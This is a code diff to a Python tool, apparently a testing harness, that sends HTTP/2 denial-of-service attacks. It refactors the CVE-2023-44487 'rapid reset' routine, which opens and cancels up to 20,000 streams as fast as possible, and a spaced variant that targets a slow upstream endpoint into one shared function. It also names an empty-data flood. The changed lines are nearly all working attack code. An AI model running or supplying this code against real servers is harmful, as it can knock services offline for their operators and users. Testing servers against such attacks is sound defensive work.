@@ -169,16 +169,21 @@ def headers(stream, block, end_stream=True, end_headers=True):
     return HeadersFrame(stream, block, flags=flags)
 
 
-def rapid_reset(c, authority):
-    """CVE-2023-44487: open a stream and cancel it at once, as fast as possible."""
-    block = request_block(authority)
+def open_and_reset(c, block, batches, per_batch, gap):
+    """Batches of streams opened and cancelled: each HEADERS followed at once by its
+    RST_STREAM when `gap` is 0, else the batch's HEADERS, `gap` seconds, then its resets."""
     stream = 1
-    for _ in range(200):  # up to 20,000 streams
-        frames = []
-        for _ in range(100):
-            frames += [headers(stream, block), RstStreamFrame(stream, error_code=CANCEL)]
-            stream += 2
-        if not c.send(frames):
+    for _ in range(batches):
+        ids = [stream + 2 * i for i in range(per_batch)]
+        stream += 2 * per_batch
+        resets = [RstStreamFrame(i, error_code=CANCEL) for i in ids]
+        if gap == 0:
+            sent = c.send([f for i, r in zip(ids, resets) for f in (headers(i, block), r)])
+        else:
+            sent = c.send([headers(i, block) for i in ids])
+            c.poll(gap)
+            sent = sent and not c.closed and c.send(resets)
+        if not sent:
             break
         c.poll(0.001)
         if c.closed:
@@ -186,23 +191,16 @@ def rapid_reset(c, authority):
     c.poll(10)
 
 
+def rapid_reset(c, authority):
+    """CVE-2023-44487: open a stream and cancel it at once, as fast as possible (up to 20,000
+    streams)."""
+    open_and_reset(c, request_block(authority), 200, 100, 0)
+
+
 def spaced_reset(c, authority):
     """CVE-2023-44487 spaced out: 50 streams opened, left 20 ms to start (their requests go
-    upstream, to an answer that takes 2 s), then cancelled; and again."""
-    block = request_block(authority, "/?sleep_ms=2000")
-    stream = 1
-    for _ in range(40):  # up to 2,000 streams
-        ids = [stream + 2 * i for i in range(50)]
-        stream += 100
-        if not c.send([headers(i, block) for i in ids]):
-            break
-        c.poll(0.02)
-        if c.closed or not c.send([RstStreamFrame(i, error_code=CANCEL) for i in ids]):
-            break
-        c.poll(0.005)
-        if c.closed:
-            break
-    c.poll(10)
+    upstream, to an answer that takes 2 s), then cancelled; and again (up to 2,000 streams)."""
+    open_and_reset(c, request_block(authority, "/?sleep_ms=2000"), 40, 50, 0.02)
 
 
 def empty_data_flood(c, authority):
